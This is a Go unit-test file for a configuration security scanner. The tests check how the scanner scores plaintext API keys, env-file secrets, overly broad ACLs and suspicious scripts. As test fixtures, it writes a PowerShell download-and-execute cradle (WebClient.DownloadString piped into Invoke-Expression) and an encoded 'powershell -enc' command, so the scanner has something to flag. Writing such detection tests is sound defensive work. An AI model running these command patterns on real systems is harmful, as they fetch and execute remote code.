package security

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/clawdesk/clawdesk/internal/cmdrunner"
	"github.com/clawdesk/clawdesk/internal/paths"
	"github.com/clawdesk/clawdesk/internal/statestore"
)

func newTestScanner(t *testing.T, runner cmdrunner.Runner) (*Scanner, paths.Paths) {
	t.Helper()
	base := paths.New(t.TempDir(), "")
	require.NoError(t, base.EnsureDirs())
	return NewScanner(runner, base, statestore.New(base)), base
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o750))
	require.NoError(t, os.WriteFile(path, []byte(content), 0o640))
}

func TestScanMissingConfigIsLow(t *testing.T) {
	s, _ := newTestScanner(t, &cmdrunner.FakeRunner{})
	report := s.Scan(context.Background())

	require.Len(t, report.Findings, 1)
	assert.Equal(t, SeverityLow, report.Findings[0].Severity)
	assert.Equal(t, 95, report.Score)
}

func TestScanPlaintextKeyInConfig(t *testing.T) {
	s, base := newTestScanner(t, &cmdrunner.FakeRunner{})
	writeFile(t, base.ConfigPath(), `{"provider":"openai","api_key": "sk-plain"}`)

	report := s.Scan(context.Background())
	require.Len(t, report.Findings, 1)
	assert.Equal(t, SeverityMedium, report.Findings[0].Severity)
	assert.Equal(t, 85, report.Score)
}

func TestScanEnvSecrets(t *testing.T) {
	s, base := newTestScanner(t, &cmdrunner.FakeRunner{})
	writeFile(t, base.ConfigPath(), `{}`)
	writeFile(t, base.EnvFilePath(), "OPENAI_API_KEY=sk-1\n")

	report := s.Scan(context.Background())
	require.Len(t, report.Findings, 1)
	assert.Equal(t, base.EnvFilePath(), report.Findings[0].Path)
	assert.Equal(t, 85, report.Score)
}

func TestScanBroadACL(t *testing.T) {
	runner := &cmdrunner.FakeRunner{
		Handler: func(cmd cmdrunner.Command) (cmdrunner.Output, error) {
			if cmd.Path == "icacls" {
				return cmdrunner.Output{Stdout: cmd.Args[0] + " Everyone:(R)\n"}, nil
			}
			return cmdrunner.Output{}, nil
		},
	}
	s, base := newTestScanner(t, runner)
	writeFile(t, base.ConfigPath(), `{}`)

	report := s.Scan(context.Background())
	require.Len(t, report.Findings, 1)
	assert.Equal(t, SeverityHigh, report.Findings[0].Severity)
	assert.Equal(t, 65, report.Score)
}

func TestScanSuspiciousScripts(t *testing.T) {
	s, base := newTestScanner(t, &cmdrunner.FakeRunner{})
	writeFile(t, base.ConfigPath(), `{}`)
	writeFile(t, filepath.Join(base.GatewayHome(), "run.ps1"),
		`$c = (New-Object Net.WebClient).DownloadString("http://x"); Invoke-Expression $c`)
	writeFile(t, filepath.Join(base.GatewayHome(), "ok.ps1"), `Write-Host "hello"`)
	writeFile(t, filepath.Join(base.GatewayHome(), "notes.txt"), "Invoke-Expression in prose is fine")

	report := s.Scan(context.Background())
	require.Len(t, report.Findings, 1)
	assert.Equal(t, SeverityHigh, report.Findings[0].Severity)
	assert.True(t, strings.HasSuffix(report.Findings[0].Path, "run.ps1"))
	assert.Equal(t, 80, report.Score)
}

func TestScanScoreClampsAtZero(t *testing.T) {
	s, base := newTestScanner(t, &cmdrunner.FakeRunner{})
	for i := 0; i < 8; i++ {
		writeFile(t, filepath.Join(base.GatewayHome(), "bad"+string(rune('a'+i))+".cmd"),
			"powershell -enc SQBFAFgA")
	}
	report := s.Scan(context.Background())
	assert.Equal(t, 0, report.Score)
	assert.GreaterOrEqual(t, len(report.Findings), 8)
}
